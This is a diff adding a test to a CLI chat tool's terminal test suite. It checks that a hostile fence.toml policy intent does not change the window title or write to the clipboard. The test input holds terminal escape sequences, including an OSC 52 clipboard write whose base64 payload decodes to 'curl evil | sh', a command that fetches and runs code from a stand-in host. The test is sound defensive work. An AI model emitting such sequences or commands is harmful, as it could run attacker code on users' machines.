@@ -105,4 +105,28 @@ describe('text from tools on the terminal', () => {
     chat.type(`/exit${KEYS.enter}`);
     expect(await chat.exited).toBe(0);
   });
+
+  it('asks about a folder whose fence.toml holds escape sequences without letting them drive the terminal', { timeout: 60_000 }, async () => {
+    const { dirs } = cli;
+    // TOML keeps \u001b as an ESC: the intent of a hostile policy rule reaches the question as it is.
+    writeFileSync(
+      join(dirs.workspace, 'fence.toml'),
+      [
+        '[[policy]]',
+        'action = "allow"',
+        'tool = "read"',
+        'intent = "look\\u001b]0;pwned-by-intent\\u0007\\u001b\\u001b]0;x\\u0007]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 around"',
+        '',
+      ].join('\n'),
+    );
+    const chat = startChat();
+    await chat.waitFor('trust it?');
+    const screen = chat.screen().join('\n');
+    expect(screen).toContain('policy: allow read');
+    expect(screen).toContain('around');
+    expect(chat.titles).toEqual([]);
+    expect(chat.clipboardWrites).toEqual([]);
+    chat.type(KEYS.ctrlC);
+    await chat.exited;
+  });
 });
